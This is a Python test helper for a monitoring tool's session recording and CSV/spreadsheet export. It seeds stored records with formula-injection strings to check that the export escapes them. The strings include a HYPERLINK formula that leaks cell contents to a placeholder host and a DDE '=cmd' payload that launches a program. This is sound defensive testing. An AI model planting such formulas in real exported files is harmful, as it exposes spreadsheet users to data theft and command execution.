"""What the session and export tests record: the real system collector polled into a real Store,
requests built from recorded real server answers (``tests/sim/recordings/streams/``), and
alerts, events and labels carrying the text a spreadsheet must not execute: formulas, unicode
model names, commas, quotes and newlines."""
from __future__ import annotations

import json
import time
from pathlib import Path

from app.records import AlertEvent, Event, RequestRecord, Sample, labels_of
from app.storage.store import Store
from collectors.system import SystemCollector

STREAMS = Path(__file__).parents[1] / "sim" / "recordings" / "streams"
SERVER = "ollama@127.0.0.1:11434"
HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]
MODELS = ["通义千问-7B-Chat", "Ωmega 🚀", 'qwen, "chat"\nv2', "=cmd|' /C calc'!A0"]
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet may evaluate


def recorded_requests() -> list[RequestRecord]:
    """One request per recorded real chat answer, with the model and token counts it reported,
    plus one per hostile model name and error text; stamped with the real clock as they are made."""
    out = []
    for i, name in enumerate(["vllm_chat.json", "llamaserver_chat.json", "lcp_chat.json", "ollama_chat.json"]):
        body = json.loads((STREAMS / name).read_text(encoding="utf-8"))
        usage = body.get("usage") or {}
        content = (body.get("message") or body["choices"][0]["message"])["content"]
        out.append(RequestRecord(
            ts_start=time.time(), server=SERVER, endpoint="/v1/chat/completions", model=body["model"],
            status=200, prompt_tokens=usage.get("prompt_tokens", body.get("prompt_eval_count")),
            completion_tokens=usage.get("completion_tokens", body.get("eval_count")),
            latency_s=0.5 + i, finish_reason="stop", response_text=content))
    for model, text in zip(MODELS, HOSTILE, strict=False):  # each model with one of the first hostile texts
        out.append(RequestRecord(ts_start=time.time(), server=SERVER, endpoint="/api/chat",
                                 model=model, client=HOSTILE[3], status=500, error_type="http",
                                 error=text, prompt_tokens=3, completion_tokens=0))
    return out


def record_session(store: Store, collector: SystemCollector, polls: int = 3) -> None:
    """Record into the store's current session and wait until it is written."""
    for _ in range(polls):
        store.put(collector.poll())
    store.put(recorded_requests())
    store.put(Sample("llm_request_tokens_per_second", 40.0 + i, time.time(),
                     labels_of(server=SERVER, model=m)) for i, m in enumerate(MODELS))
    # A negative number must stay a number, not be escaped as if it were a formula.
    store.put([Sample("ollama_model_expires_in_seconds", -12.5, time.time(),
                      labels_of(server=SERVER, model=HOSTILE[0]))])
    store.put([AlertEvent("gpu_hot", state, "warning", time.time(), labels_of(gpu="0", model=MODELS[2]),
                          91.5, HOSTILE[i]) for i, state in enumerate(["pending", "firing", "resolved"])])
    store.put([Event("model_loaded", SERVER, HOSTILE[3], time.time(), labels_of(model=MODELS[0]))])
    store.flush()


def unescape(cell: str) -> str:
    """What a spreadsheet shows for a cell the export escaped: the text without its one
    leading ``'`` (the export adds one to every text that starts with a formula character or
    with ``'``)."""
    return cell[1:] if cell.startswith("'") else cell

